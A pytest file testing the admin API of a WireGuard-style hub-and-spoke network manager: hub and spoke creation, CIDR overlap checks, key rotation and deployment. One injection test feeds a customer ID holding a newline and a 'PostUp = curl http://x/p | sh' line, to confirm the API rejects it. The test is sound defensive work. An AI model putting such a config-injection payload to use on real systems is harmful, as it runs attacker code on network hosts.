# tests/test_api.py
"""
API tests for the admin endpoints
Dependencies are overridden with the in-memory database and fake remote hosts
"""

import pytest
from fastapi.testclient import TestClient

from hubnet.api.v1.hubs import get_event_bus, get_executor, get_secrets
from hubnet.config import settings
from hubnet.core.keys import generate_keypair
from hubnet.database.session import get_db
from hubnet.main import app

API = "/api/v1"


@pytest.fixture
def client(db, remote, secrets, bus):
    def override_get_db():
        yield db

    app.dependency_overrides[get_db] = override_get_db
    app.dependency_overrides[get_executor] = lambda: remote
    app.dependency_overrides[get_secrets] = lambda: secrets
    app.dependency_overrides[get_event_bus] = lambda: bus
    yield TestClient(app)
    app.dependency_overrides.clear()


@pytest.fixture
def headers():
    return {"X-Admin-Token": settings.ADMIN_SECRET}


def create_hub(client, headers, name, hub_type="workstation", **fields):
    body = {"name": name, "hub_type": hub_type, "ssh_host": f"{name}.example.net",
            "endpoint": f"{name}.example.net"}
    body.update(fields)
    return client.post(f"{API}/hubs", json=body, headers=headers)


class TestHealth:
    def test_health(self, client):
        response = client.get("/health")

        assert response.status_code == 200
        assert response.json() == {"status": "ok", "service": "hubnet"}

    def test_lifespan_initializes_database(self, monkeypatch):
        calls = []
        monkeypatch.setattr("hubnet.main.init_db", lambda: calls.append("init_db"))

        with TestClient(app) as client:
            assert client.get("/health").status_code == 200

        assert calls == ["init_db"]


class TestAuth:
    """Tests for the admin token guard"""

    def test_missing_token(self, client):
        response = client.get(f"{API}/hubs")

        assert response.status_code == 422

    def test_wrong_token(self, client):
        response = client.get(f"{API}/hubs", headers={"X-Admin-Token": "wrong"})

        assert response.status_code == 401
        assert response.json()["detail"]["error_code"] == "UNAUTHORIZED"


class TestHubEndpoints:
    """Tests for /hubs"""

    def test_create_hub(self, client, headers):
        response = create_hub(client, headers, "ws-1")

        assert response.status_code == 201
        data = response.json()
        assert data["name"] == "ws-1"
        assert data["deployment_status"] == "pending"
        assert data["public_key"]
        assert "private_key_encrypted" not in data

    def test_overlap_is_conflict(self, client, headers):
        first = create_hub(client, headers, "ws-1", network_cidr="10.5.0.0/24").json()

        response = create_hub(client, headers, "ws-2", network_cidr="10.5.0.0/25")

        assert response.status_code == 409
        detail = response.json()["detail"]
        assert detail["error_code"] == "CIDR_OVERLAP"
        assert detail["conflicting_hub_ids"] == [first["id"]]

    def test_invalid_network(self, client, headers):
        response = create_hub(client, headers, "ws-1", network_cidr="10.5.0.9/24")

        assert response.status_code == 422
        assert response.json()["detail"]["error_code"] == "INVALID_NETWORK"

    def test_unknown_hub_type(self, client, headers):
        response = create_hub(client, headers, "x-1", hub_type="router")

        assert response.status_code == 422

    def test_line_break_in_customer_id(self, client, headers):
        response = create_hub(client, headers, "acme", hub_type="customer",
                              customer_id="acme\nPostUp = curl http://x/p | sh")

        assert response.status_code == 422
        assert client.get(f"{API}/hubs", headers=headers).json()["total"] == 0

    def test_list_and_get(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        create_hub(client, headers, "gw-1", hub_type="gateway", egress_interface="eth0")

        listing = client.get(f"{API}/hubs", params={"hub_type": "gateway"}, headers=headers).json()
        single = client.get(f"{API}/hubs/{hub['id']}", headers=headers)

        assert listing["total"] == 1
        assert listing["hubs"][0]["name"] == "gw-1"
        assert single.json()["name"] == "ws-1"

    def test_get_missing(self, client, headers):
        response = client.get(f"{API}/hubs/999", headers=headers)

        assert response.status_code == 404
        assert response.json()["detail"]["error_code"] == "NOT_FOUND"

    def test_topology_tiers(self, client, headers):
        create_hub(client, headers, "acme", hub_type="customer", customer_id="acme")
        create_hub(client, headers, "ws-1")

        tiers = client.get(f"{API}/topology", headers=headers).json()["tiers"]

        assert [t["hub_type"] for t in tiers] == ["workstation", "logging", "gateway", "customer"]
        assert [h["name"] for h in tiers[0]["hubs"]] == ["ws-1"]
        assert [h["name"] for h in tiers[3]["hubs"]] == ["acme"]

    def test_delete_hub(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()

        response = client.delete(f"{API}/hubs/{hub['id']}", headers=headers)

        assert response.json()["success"] is True
        assert client.get(f"{API}/hubs/{hub['id']}", headers=headers).status_code == 404

    def test_rotate_keys(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        create_hub(client, headers, "log-1", hub_type="logging")

        response = client.post(f"{API}/hubs/{hub['id']}/rotate-keys", headers=headers)

        data = response.json()
        assert data["total"] == 2
        assert data["hubs"][0]["public_key"] != hub["public_key"]


class TestSpokeEndpoints:
    """Tests for /hubs/{id}/spokes"""

    def test_create_and_download_config(self, client, headers):
        hub = create_hub(client, headers, "ws-1", network_cidr="10.9.0.0/24").json()

        spoke = client.post(f"{API}/hubs/{hub['id']}/spokes", json={"name": "laptop"}, headers=headers)
        assert spoke.status_code == 201
        assert spoke.json()["allocated_ip"] == "10.9.0.2"

        config = client.get(f"{API}/hubs/{hub['id']}/spokes/{spoke.json()['id']}/config", headers=headers)
        assert config.status_code == 200
        assert "Address = 10.9.0.2/32" in config.text
        assert "AllowedIPs = 10.9.0.0/24" in config.text

    def test_external_key_has_no_config(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        spoke = client.post(
            f"{API}/hubs/{hub['id']}/spokes",
            json={"name": "byo", "public_key": generate_keypair().public_key},
            headers=headers,
        ).json()

        response = client.get(f"{API}/hubs/{hub['id']}/spokes/{spoke['id']}/config", headers=headers)

        assert response.status_code == 400
        assert response.json()["detail"]["error_code"] == "KEY_MATERIAL_ERROR"

    def test_duplicate_spoke(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        client.post(f"{API}/hubs/{hub['id']}/spokes", json={"name": "laptop"}, headers=headers)

        response = client.post(f"{API}/hubs/{hub['id']}/spokes", json={"name": "laptop"}, headers=headers)

        assert response.status_code == 409

    def test_list_and_delete(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        spoke = client.post(f"{API}/hubs/{hub['id']}/spokes", json={"name": "laptop"}, headers=headers).json()

        assert client.get(f"{API}/hubs/{hub['id']}/spokes", headers=headers).json()["total"] == 1
        client.delete(f"{API}/hubs/{hub['id']}/spokes/{spoke['id']}", headers=headers)
        assert client.get(f"{API}/hubs/{hub['id']}/spokes", headers=headers).json()["total"] == 0

    def test_policies(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()

        created = client.post(
            f"{API}/hubs/{hub['id']}/policies",
            json={"name": "no-ssh", "rule_type": "firewall", "rule": {"port": 22, "action": "deny"}},
            headers=headers,
        )
        listing = client.get(f"{API}/hubs/{hub['id']}/policies", headers=headers).json()

        assert created.status_code == 201
        assert [p["name"] for p in listing] == ["no-ssh"]


class TestDeploymentEndpoints:
    """Tests for deploy, rollback, topology deploy and status"""

    def test_deploy_and_status(self, client, headers, remote):
        hub = create_hub(client, headers, "ws-1").json()

        result = client.post(f"{API}/hubs/{hub['id']}/deploy", headers=headers).json()
        status = client.get(f"{API}/hubs/{hub['id']}/status", headers=headers).json()

        assert result["status"] == "deployed"
        assert result["checksum"]
        assert status["interface_up"] is True
        assert status["carries_address"] is True
        assert status["sync_issues"] == []

    def test_validation_failure_in_body(self, client, headers, remote):
        hub = create_hub(client, headers, "gw-1", hub_type="gateway").json()

        response = client.post(f"{API}/hubs/{hub['id']}/deploy", headers=headers)

        assert response.status_code == 200
        assert response.json()["status"] == "failed"
        assert response.json()["error_code"] == "MISSING_PREREQUISITE"
        assert remote.calls == []

    def test_rollback_requires_failed_hub(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()

        response = client.post(f"{API}/hubs/{hub['id']}/rollback", headers=headers)

        assert response.status_code == 409

    def test_topology_deploy(self, client, headers):
        create_hub(client, headers, "ws-1")
        create_hub(client, headers, "log-1", hub_type="logging")

        response = client.post(f"{API}/topology/deploy", headers=headers).json()

        assert response["total"] == 2
        assert response["succeeded"] == 2
        assert [r["hub_name"] for r in response["results"]] == ["ws-1", "log-1"]

    def test_topology_deploy_subset(self, client, headers):
        hub = create_hub(client, headers, "ws-1").json()
        create_hub(client, headers, "log-1", hub_type="logging")

        response = client.post(f"{API}/topology/deploy", json={"hub_ids": [hub["id"]]}, headers=headers).json()

        assert response["total"] == 1
